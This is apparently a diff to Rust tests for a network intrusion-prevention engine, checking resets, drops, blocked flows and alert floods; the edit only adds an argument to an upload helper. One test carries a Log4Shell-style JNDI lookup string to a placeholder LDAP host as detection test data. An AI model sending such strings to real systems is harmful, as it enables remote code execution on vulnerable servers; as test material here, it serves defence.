@@ -368,12 +368,12 @@ fn both_ends_are_reset_with_the_numbers_that_they_expect() {
             let mut connection = Connection::new(ends(client, server, vlans), [0xffff_ffff, 0xffff_ff80]);
             let mut bench = Bench::new(settings());
             bench.passes(&connection.handshake());
-            bench.passes(&[connection.segment(ToServer, DATA, &upload("harmless"))]);
+            bench.passes(&[connection.segment(ToServer, DATA, &upload("", "harmless"))]);
             if guilty == ToClient {
                 let head = b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n";
                 bench.passes(&[connection.segment(ToClient, DATA, head)]);
             }
-            let payload = if guilty == ToServer { upload("resetword") } else { b"resetword".to_vec() };
+            let payload = if guilty == ToServer { upload("", "resetword") } else { b"resetword".to_vec() };
             let (at, answer) = (connection.sequence(guilty), connection.sequence(guilty.opposite()));
             let frame = connection.segment(guilty, DATA, &payload);
             assert_eq!(bench.judge(&frame), Verdict::Reset(DropReason::Rule));
@@ -412,7 +412,7 @@ fn what_is_blocked_stays_so_in_both_directions() {
         let mut connection = connection();
         let mut bench = Bench::new(settings());
         bench.passes(&connection.handshake());
-        let guilty = connection.segment(ToServer, DATA, &upload(word));
+        let guilty = connection.segment(ToServer, DATA, &upload("", word));
         assert_eq!(bench.judge(&guilty), first);
         assert_eq!(bench.pipeline.resets().to_sender().is_some(), matches!(first, Verdict::Reset(_)));
         let blocked = Verdict::Drop(DropReason::FlowBlocked);
@@ -437,14 +437,14 @@ fn ends_that_were_reset_may_connect_anew() {
     let mut first = connection();
     bench.passes(&first.handshake());
     assert_eq!(
-        bench.judge(&first.segment(ToServer, DATA, &upload("resetword"))),
+        bench.judge(&first.segment(ToServer, DATA, &upload("", "resetword"))),
         Verdict::Reset(DropReason::Rule)
     );
     let mut again = Connection::new(ends("10.0.0.1:40000", "192.0.2.1:80", &[]), [77_000, 88_000]);
     bench.passes(&again.handshake());
-    bench.passes(&[again.segment(ToServer, DATA, &upload("harmless"))]);
+    bench.passes(&[again.segment(ToServer, DATA, &upload("", "harmless"))]);
     assert_eq!(
-        bench.judge(&again.segment(ToServer, DATA, &upload("dropword"))),
+        bench.judge(&again.segment(ToServer, DATA, &upload("", "dropword"))),
         Verdict::Drop(DropReason::Rule)
     );
 }
@@ -457,7 +457,7 @@ fn a_flood_of_alerts_hides_no_reset() {
     // A rule hits a field once, so it takes as many rules as alerts.
     let words: String = (0..FLOOD_RULES).map(|n| format!("floodword{n:03} ")).collect();
     let body = words + "${jndi:ldap://203.0.113.7/a}";
-    let frame = connection.segment(ToServer, DATA, &upload(&body));
+    let frame = connection.segment(ToServer, DATA, &upload("", &body));
     assert_eq!(bench.judge(&frame), Verdict::Reset(DropReason::Rule));
     assert_eq!(bench.told.alerts.len(), HITS_PER_PACKET_MAX);
     assert!(bench.told.alerts.contains(&(LOG4SHELL, true)), "what decides is told");
@@ -475,11 +475,11 @@ fn an_alert_lets_pass_and_monitoring_lets_everything_pass() {
         let mut connection = connection();
         let mut bench = Bench::new(Settings { mode, ..settings() });
         bench.passes(&connection.handshake());
-        bench.passes(&[connection.segment(ToServer, DATA, &upload(word))]);
+        bench.passes(&[connection.segment(ToServer, DATA, &upload("", word))]);
         assert!(
             bench.pipeline.resets().to_sender().is_none() && bench.pipeline.resets().to_receiver().is_none()
         );
-        bench.passes(&[connection.segment(ToServer, DATA, &upload("harmless"))]);
+        bench.passes(&[connection.segment(ToServer, DATA, &upload("", "harmless"))]);
         assert_eq!(bench.told.alerts, [(id, false)]);
         assert!(bench.told.drops.is_empty());
     }
